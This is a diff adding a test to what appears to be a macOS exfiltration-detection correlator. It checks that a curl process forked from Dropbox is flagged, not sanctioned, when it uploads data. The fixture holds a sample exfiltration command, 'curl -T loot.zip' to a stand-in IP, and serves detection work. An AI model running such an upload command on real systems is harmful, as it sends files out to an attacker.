@@ -58,3 +58,24 @@ it('an exec dated the second the flow was first seen still leaves the upload to 
   const an0082 = correlate(world, correlationOptions(parseQueryContext(''))).rows.filter((r) => r.analytic === 'AN0082');
   expect(an0082.map((r) => [r.path, r.signature_class, r.identity])).toEqual([[UPLOADER.path, 'unsigned', 'cdhash:ee99']]);
 });
+
+it('a fork of a sanctioned app that exec\'d curl, which connected in that same second, is curl\'s own upload: AN1415 stays, not sanctioned', () => {
+  // Dropbox forks, the child execs /usr/bin/curl and curl connects at once; the sampler's first sight of the flow falls
+  // in that second, before eslogger's exec line was read (the fork line was): the flow took the fork's image, Dropbox's.
+  const DROPBOX = { pid: 1000, processStart: NOW - 9000, ppid: 1, responsiblePid: 1000, path: '/Applications/Dropbox.app/Contents/MacOS/Dropbox' };
+  const T = NOW - 100;
+  const world = buildWorld({
+    processes: [DROPBOX, { pid: 1020, processStart: T, ppid: 1000, responsiblePid: 1000, path: DROPBOX.path, forkedFrom: { pid: 1000, processStart: DROPBOX.processStart } }],
+    signing: [
+      { path: DROPBOX.path, cls: 'developer_id', teamId: 'G7HH3F8CAK', signingId: 'com.getdropbox.dropbox' },
+      { path: '/usr/bin/curl', cls: 'apple_platform', signingId: 'com.apple.curl' },
+    ],
+    flows: [{ pid: 1020, processStart: T, remote: '203.0.113.50', bytesOut: 15 * MiB, bytesIn: 8_000, firstSeen: T, lastSeen: NOW - 30 }],
+  });
+  world.processes.observe({ pid: 1020, processStart: T, path: '/usr/bin/curl', args: ['curl', '-T', 'loot.zip', 'https://203.0.113.50/'], signingId: 'com.apple.curl', platformBinary: true, exec: true, source: 'eslogger', seenAt: T });
+  const rows = correlate(world, correlationOptions(parseQueryContext(''))).rows.filter((r) => r.pid === 1020);
+  expect(rows.map((r) => [r.analytic, r.identity, r.sanctioned]).sort()).toEqual([
+    ['AN0032', 'team:APPLE/com.apple.curl', 0],
+    ['AN1415', 'team:APPLE/com.apple.curl', 0],
+  ]);
+});
